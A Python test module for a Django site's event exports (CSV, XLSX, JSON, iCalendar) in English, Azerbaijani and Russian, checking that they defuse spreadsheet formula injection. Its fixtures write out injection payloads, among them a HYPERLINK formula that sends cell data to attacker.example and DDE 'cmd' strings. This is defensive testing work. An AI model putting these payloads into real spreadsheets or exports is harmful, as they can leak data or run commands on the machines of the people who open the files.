"""The exports read as other programs read them: the CSV as Excel opens it (in a locale
whose list separator is ";" too), the workbook with openpyxl, the JSON with json, the
calendar file with icalendar, in each of the site's three languages.

The records carry what a hostile or careless editor could enter, written through the
write path: texts that start with a formula character, hold a ";" before one, or break
lines before one. Every answer is read once for the module (`answers`), over records
that are rolled back afterwards.
"""

import csv
import datetime as dt
import io
import json
import re
from types import SimpleNamespace

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from icalendar import Calendar
from openpyxl import Workbook

from cooperation import exports, records
from cooperation.exports import EXPORT_COLUMNS, FORMULA_STARTS, XLSX_TYPE, as_text, text_cell
from cooperation.models import (
    CooperationProgram,
    Delegation,
    DelegationCitation,
    Organization,
    Place,
    ProgramCitation,
    Source,
    Status,
)
from tests.conftest import country_place

# The test database is made for modules that ask for it; `answers` uses it once.
pytestmark = pytest.mark.django_db

LANGUAGES = ["", "/az", "/ru"]

TITLES = {
    "": '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
    "/az": "@SUM(1+1)*cmd|' /C calc'!A0 səfər",
    "/ru": "-2+3 визит",
}
# Only in English: on /az/ and /ru/ these are given in English, and said so (`in_english`).
SUMMARY = "x;=cmd|' /C calc'!A0\n- talks on extradition\r\n+ a second line;\"=quoted\n\tend"
SENDING = "\tTab office;-1"
HOST = "\rCarriage office"
LOCATION = "Baku;@here"
PROGRAM = "+Programme 2021-2023"

# Each export in each language, and the calendar file.
URLS = [
    f"{prefix}/events/{path}"
    for prefix in LANGUAGES
    for path in (
        "export.csv",
        "export.json",
        "export.xlsx",
        "published-visit/calendar.ics",
    )
] + [
    "/events/export.xlsx?year=2022",
    "/ru/events/export.xlsx?date_from=2023-13-45",
    "/events/export.csv?date_from=2023-13-45",
    "/az/events/?year=2022",
]
# A spreadsheet at its limit (2 events), and past it (1).
LIMITED = {2: "/events/export.xlsx", 1: "/events/export.xlsx?country=AZ"}
# Exports whose queries are counted, before and after more visits are published.
COUNTED = [f"/ru/events/export.{fmt}?country=AZ" for fmt in ("csv", "json", "xlsx")]


def office(slug, name, country):
    return Organization.objects.create(
        name=name, slug=slug, country=country, kind=Organization.Kind.PROSECUTION_SERVICE
    )


def visit(slug, title, start, sending, host, location, program, source):
    event = Delegation.objects.create(
        slug=slug,
        title=title,
        visit_type=Delegation.VisitType.WORKING,
        start_date=start,
        sending_organization=sending,
        host_organization=host,
        location=location,
        program=program,
        status=Status.PUBLISHED,
        published_at=timezone.now(),
    )
    DelegationCitation.objects.create(delegation=event, source=source)
    return event


def build_records():
    """A published visit naming hostile texts, and a plain one; returns a maker of more
    plain visits."""
    with records.change():
        source = Source.objects.create(
            url="https://example.org/report",
            title="Report",
            publisher="Example News",
            language="en",
        )
        russia = office("ru-pgo", "Russian office", "RU")
        azerbaijan = office("az-pgo", "Azerbaijani office", "AZ")
        baku = Place.objects.create(
            name="Baku", slug="baku", country="AZ", kind=Place.Kind.CITY, parent=country_place("AZ")
        )
        program = CooperationProgram.objects.create(
            title="Programme",
            slug="programme",
            start_year=2021,
            end_year=2023,
            status=Status.PUBLISHED,
            published_at=timezone.now(),
        )
        program.parties.set([russia, azerbaijan])
        ProgramCitation.objects.create(program=program, source=source)
        published = visit(
            "published-visit",
            "Visit",
            dt.date(2023, 12, 15),
            russia,
            azerbaijan,
            baku,
            program,
            source,
        )
        visit(
            "plain-visit",
            "Plain visit",
            dt.date(2022, 5, 1),
            azerbaijan,
            russia,
            None,
            None,
            source,
        )

    # The hostile texts, each saved as the admin saves a record: validated, then written.
    published.title_en, published.title_az, published.title_ru = TITLES.values()
    published.end_date = dt.date(2023, 12, 17)
    for record, field, text in [
        (published, "summary_en", SUMMARY),
        (russia, "name_en", SENDING),
        (azerbaijan, "name_en", HOST),
        (baku, "name_en", LOCATION),
        (program, "title_en", PROGRAM),
    ]:
        setattr(record, field, text)
        records.save(record)

    def more(n):
        with records.change():
            for i in range(n):
                day = dt.date(2021, 1, 1 + i)
                visit(f"more-{i}", "More", day, russia, azerbaijan, baku, program, source)

    return more


def answer(response):
    """What a client keeps of a response: its status, headers and whole body."""
    content = (
        b"".join(response.streaming_content) if response.streaming else bytes(response.content)
    )
    return SimpleNamespace(
        status=response.status_code,
        headers=dict(response.headers),
        charset=response.charset,
        content=content,
        text=content.decode(response.charset, errors="replace"),
    )


def counted(client, url):
    with CaptureQueriesContext(connection) as queries:
        got = answer(client.get(url))
    assert got.status == 200, (url, got.text[:500])
    return len(queries)


@pytest.fixture(scope="module")
def answers(django_db_setup, django_db_blocker):
    got = {}
    with (
        django_db_blocker.unblock(),
        transaction.atomic(),
        translation.override("en"),
        pytest.MonkeyPatch.context() as patch,
    ):
        cache.clear()  # a page an earlier module cached would answer for other records
        more = build_records()
        client = Client()
        for url in URLS:
            got[url] = answer(client.get(url))
        for limit, url in LIMITED.items():
            patch.setattr(exports, "XLSX_LIMIT", limit)
            got[limit, url] = answer(client.get(url))
        patch.undo()
        admin = Client()
        admin.force_login(get_user_model().objects.create_superuser("admin", "a@example.org"))
        got["admin"] = answer(
            admin.post(
                "/admin/cooperation/organization/",
                {
                    "action": "export_csv",
                    "index": "0",
                    "_selected_action": list(Organization.objects.values_list("pk", flat=True)),
                },
            )
        )
        # Streamed exports bypass the page cache; the count is of a fresh request anyway.
        for url in COUNTED:
            got["queries", url] = [counted(client, url)]
        more(6)
        for url in COUNTED:
            got["queries", url].append(counted(client, url))
        transaction.set_rollback(True)
    cache.clear()
    return got


def get(answers, key, status=200):
    got = answers[key]
    assert got.status == status, (key, got.text[:500])
    return got


def csv_rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_text(answers, prefix):
    return get(answers, f"{prefix}/events/export.csv").content.decode("utf-8-sig")


# --- CSV -------------------------------------------------------------------------------------


# A whole file of quoted fields: each field in quotes ("" inside for a quote), each
# followed by a comma or by the end of its line. A line break outside quotes, or a field
# without them, does not match.
QUOTED_FILE = re.compile(r'(?:"(?:[^"]|"")*"(?:,|\r\n))*')


@pytest.mark.parametrize("prefix", LANGUAGES)
def test_csv_opens_in_excel_as_utf8_with_every_field_quoted(answers, prefix):
    got = get(answers, f"{prefix}/events/export.csv")
    assert got.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert got.headers["Content-Disposition"] == 'attachment; filename="events.csv"'
    assert got.content.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel reads UTF-8 by
    text = got.content.decode("utf-8-sig")
    assert QUOTED_FILE.fullmatch(text)

    header, *rows = csv_rows(text)
    assert header == list(EXPORT_COLUMNS)
    assert [row[0] for row in rows] == ["published-visit", "plain-visit"]
    row = dict(zip(header, rows[0], strict=True))
    # The texts, each in the address's language, marked where a reading could start a
    # field with a formula: the cell's start, after a ";", after a line break.
    assert row["title"] == "'" + TITLES[prefix]
    assert row["sending_organization"] == "'\tTab office;'-1"
    assert row["host_organization"] == "'" + HOST
    assert row["location"] == "Baku;'@here"
    assert row["program"] == "'" + PROGRAM
    # Line breaks kept inside the cell.
    assert row["summary"] == (
        "x;'=cmd|' /C calc'!A0\n'- talks on extradition\r\n'+ a second line;'\"=quoted\n'\tend"
    )
    # Everything else as it is.
    assert row["start_date"] == "2023-12-15"
    assert row["end_date"] == "2023-12-17"
    assert row["url"] == f"http://testserver{prefix}/events/published-visit/"
    assert row["language"] == (prefix.strip("/") or "en")
    # The titles are in every language; the names, the programme and the summary only in
    # English.
    assert row["in_english"] == (
        "sending_organization host_organization location program summary" if prefix else ""
    )
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(FORMULA_STARTS), cell


def unsafe_csv(rows):
    """The rows as a CSV without the export's precautions, as the registry once wrote it."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def fields_read_with_semicolons(text):
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    return [field for row in rows for field in row]


@pytest.mark.parametrize("prefix", LANGUAGES)
def test_csv_read_with_semicolons_starts_no_field_with_a_formula(answers, prefix):
    """Excel in Russian or Azerbaijani separates fields by ";": read so, no field of the
    file may start with a formula character, neither at a ";" inside a text nor after a
    line break inside one."""
    fields = fields_read_with_semicolons(csv_text(answers, prefix))
    assert len(fields) > 4  # the file was split, at the texts' ";" and line breaks
    assert [field for field in fields if field.startswith(FORMULA_STARTS)] == []

    # The same records written without the precautions are split into formulas: what the
    # reading above guards against.
    events = json.loads(get(answers, f"{prefix}/events/export.json").content)["events"]
    plain = [[as_text(value) for value in event.values()] for event in events]
    unsafe = fields_read_with_semicolons(unsafe_csv(plain))
    assert "=cmd|' /C calc'!A0" in unsafe


def test_admin_csv_is_written_by_the_same_rules(answers):
    got = get(answers, "admin")
    assert got.content.startswith(b"\xef\xbb\xbf")
    text = got.content.decode("utf-8-sig")
    assert QUOTED_FILE.fullmatch(text)
    cells = [cell for row in csv_rows(text) for cell in row]
    assert {"'\tTab office;'-1", "'" + HOST} <= set(cells)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


# --- The spreadsheet -------------------------------------------------------------------------


def workbook_rows(got):
    assert got.headers["Content-Type"] == XLSX_TYPE
    sheet = openpyxl.load_workbook(io.BytesIO(got.content))["events"]
    return sheet, [list(row) for row in sheet.iter_rows()]


def as_csv_cell(cell):
    """A workbook cell as the CSV writes the same value."""
    value = cell.value
    if isinstance(value, dt.datetime):
        value = value.date()
    return "" if value is None else text_cell(as_text(value))


@pytest.mark.parametrize("prefix", LANGUAGES)
def test_xlsx_holds_the_csv_rows_and_no_formula(answers, prefix):
    got = get(answers, f"{prefix}/events/export.xlsx")
    assert got.headers["Content-Disposition"] == 'attachment; filename="events.xlsx"'
    sheet, rows = workbook_rows(got)

    assert [[as_csv_cell(cell) for cell in row] for row in rows] == csv_rows(
        csv_text(answers, prefix)
    )
    assert [cell.coordinate for row in rows for cell in row if cell.data_type == "f"] == []
    header, first, _ = rows
    assert all(cell.font.bold for cell in header)
    assert sheet.freeze_panes == "A2"
    column = {name: first[index] for index, name in enumerate(EXPORT_COLUMNS)}
    # A text is the record's text exactly, typed as a string, kept as text on editing.
    title = column["title"]
    assert (title.value, title.data_type, title.quotePrefix) == (TITLES[prefix], "s", True)
    assert column["summary"].value == SUMMARY
    assert column["sending_organization"].value == SENDING
    # Dates are dates.
    start = column["start_date"]
    assert (start.is_date, start.value) == (True, dt.datetime(2023, 12, 15))


def test_openpyxl_would_write_such_a_text_as_a_formula(tmp_path):
    """What the export guards against: openpyxl's default turns "=..." into a formula, and
    the check above would see it."""
    book = Workbook(write_only=True)
    book.create_sheet("events").append([TITLES[""]])
    book.save(tmp_path / "plain.xlsx")
    (cell,) = next(openpyxl.load_workbook(tmp_path / "plain.xlsx")["events"].iter_rows())
    assert cell.data_type == "f"


def test_xlsx_follows_the_filters_and_refuses_bad_ones_as_the_csv_does(answers):
    rows = workbook_rows(get(answers, "/events/export.xlsx?year=2022"))[1]
    assert [row[0].value for row in rows[1:]] == ["plain-visit"]

    got = get(answers, "/ru/events/export.xlsx?date_from=2023-13-45", status=400)
    assert got.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert "date_from" in got.text
    assert "date_from" in get(answers, "/events/export.csv?date_from=2023-13-45", status=400).text


def test_xlsx_past_its_limit_sends_to_the_csv(answers):
    at_limit = get(answers, (2, LIMITED[2]))
    assert len(workbook_rows(at_limit)[1]) == 1 + 2

    got = get(answers, (1, LIMITED[1]), status=400)
    assert got.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert "holds at most 1 event," in got.text
    assert "http://testserver/events/export.csv?country=AZ" in got.text


def test_event_list_links_the_spreadsheet_with_its_filters(answers):
    text = get(answers, "/az/events/?year=2022").text
    assert 'href="/az/events/export.xlsx?year=2022"' in text


# --- JSON and the calendar -------------------------------------------------------------------


@pytest.mark.parametrize("prefix", LANGUAGES)
def test_json_gives_exact_texts_and_lists_as_lists(answers, prefix):
    got = get(answers, f"{prefix}/events/export.json")
    assert got.headers["Content-Type"] == "application/json"
    first, second = json.loads(got.content)["events"]
    assert list(first) == list(EXPORT_COLUMNS)
    assert first["title"] == TITLES[prefix]
    assert (first["summary"], first["sending_organization"]) == (SUMMARY, SENDING)
    assert (first["start_date"], first["end_date"]) == ("2023-12-15", "2023-12-17")
    assert second["end_date"] is None
    # The one column holding several values is a list, empty when there is none.
    assert first["in_english"] == (
        ["sending_organization", "host_organization", "location", "program", "summary"]
        if prefix
        else []
    )
    # The plain visit has its title in English only, no place and no programme.
    assert second["in_english"] == (
        ["title", "sending_organization", "host_organization"] if prefix else []
    )
    for event in (first, second):
        assert [name for name, value in event.items() if isinstance(value, list)] == ["in_english"]
        assert all(isinstance(value, str | list | None) for value in event.values())


@pytest.mark.parametrize("prefix", LANGUAGES)
def test_calendar_names_its_charset_and_reads_in_icalendar(answers, prefix):
    got = get(answers, f"{prefix}/events/published-visit/calendar.ics")
    assert got.headers["Content-Type"] == "text/calendar; charset=utf-8"
    assert got.headers["Content-Disposition"] == 'attachment; filename="published-visit.ics"'
    event = Calendar.from_ical(got.content.decode(got.charset)).walk("VEVENT")[0]
    assert str(event["SUMMARY"]) == TITLES[prefix]
    assert event.decoded("DTSTART") == dt.date(2023, 12, 15)
    assert event.decoded("DTEND") == dt.date(2023, 12, 18)


# --- Queries ---------------------------------------------------------------------------------


# The registry version (every public request); the ids of the results; their rows, with
# the offices, places and programme they name, in one query per batch. The spreadsheet
# first asks whether there are more results than it holds.
EXPORT_QUERIES = {"csv": 1 + 2, "json": 1 + 2, "xlsx": 1 + 3}


@pytest.mark.parametrize("url", COUNTED)
def test_export_query_count_is_fixed(answers, url):
    expected = EXPORT_QUERIES[url.split("?")[0].rsplit(".", 1)[1]]
    assert answers["queries", url] == [expected, expected]
